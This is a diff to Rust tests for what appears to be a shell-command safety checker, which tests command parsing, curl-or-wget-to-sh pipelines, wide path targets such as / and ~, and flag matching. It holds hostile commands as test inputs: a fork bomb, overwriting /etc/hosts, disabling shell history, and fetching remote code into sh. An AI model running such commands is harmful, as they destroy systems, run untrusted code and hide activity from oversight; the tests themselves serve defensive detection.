@@ -48,6 +48,7 @@ fn commands_in_commands_are_read() {
     holds(&json!("echo x >| /etc/hosts"), "> /etc/hosts");
     holds(&json!(":(){ :|:& };:"), FORK_BOMB);
     holds(&json!("HISTFILE=/dev/null"), "set HISTFILE=/dev/null");
+    assert_eq!(read(&json!("HISTFILE=/dev/null ls")), ["ls"], "for this command alone");
 }
 
 #[test]
@@ -58,6 +59,7 @@ fn who_feeds_a_command_is_known() {
         found.into_iter().find(|command| command.program == "sh").unwrap().fed_by
     };
     assert_eq!(fed("curl -s https://x.test/a | tee a | sh"), ["curl", "tee"]);
+    assert!(fed("curl -s https://x.test/a | sh -c cat").is_empty(), "what it reads is data");
     assert_eq!(fed("sh <(curl https://x.test/a)"), ["curl"]);
     assert_eq!(fed("sh -c \"$(wget -qO- https://x.test/a)\""), ["wget"]);
     assert!(fed("curl https://x.test/a > a; sh a").is_empty());
@@ -65,28 +67,45 @@ fn who_feeds_a_command_is_known() {
 
 #[test]
 fn what_takes_in_all_is_told_from_one_thing() {
-    let wide = |word: &str| is_wide(word, "/home/o");
+    let found = |word: &str| width(word, "/home/o");
     for all in [
         "/",
         "/*",
         "/.",
+        "//",
         "~",
         "~/",
         "~/*",
         "~/.*",
+        "~/.??*",
+        "~root",
         "/home",
         "/home/*",
         "/home/o/../o",
         "/etc",
         "/usr/lib/x",
-        "*",
-        ".",
-        "..",
+        "/h*",
     ] {
-        assert!(wide(all), "{all}");
+        assert_eq!(found(all), Wide::Places, "{all}");
     }
-    for one in ["~/old", "~/old/*", "/tmp/a", "/home/p", "a", "a*", "./a", "/dev/null", "/dev/fd/2"] {
-        assert!(!wide(one), "{one}");
+    for here in ["*", ".", "..", "./", "../..", "./*", "~+", "[a-z]*"] {
+        assert_eq!(found(here), Wide::Here, "{here}");
+    }
+    for one in [
+        "~/old",
+        "~/old/*",
+        "~/a*",
+        "/tmp/a",
+        "/tmp/*",
+        "/home/p",
+        "a",
+        "a*",
+        "./a",
+        "/dev/null",
+        "/dev/fd/2",
+        "/var/tmp/a",
+    ] {
+        assert_eq!(found(one), Wide::No, "{one}");
     }
 }
 
@@ -99,6 +118,7 @@ fn switches_are_found_as_they_are_written() {
     };
     assert!(command(&["-fvr", "a"]).has_flag("r"));
     assert!(command(&["--recursive", "a"]).has_flag("recursive"));
+    assert!(command(&["--recur", "a"]).has_flag("recursive") && !command(&["--re", "a"]).has_flag("recursive"));
     assert!(command(&["a", "-delete"]).has_flag("delete"));
     assert!(!command(&["-f", "r", "--force"]).has_flag("r"));
 }
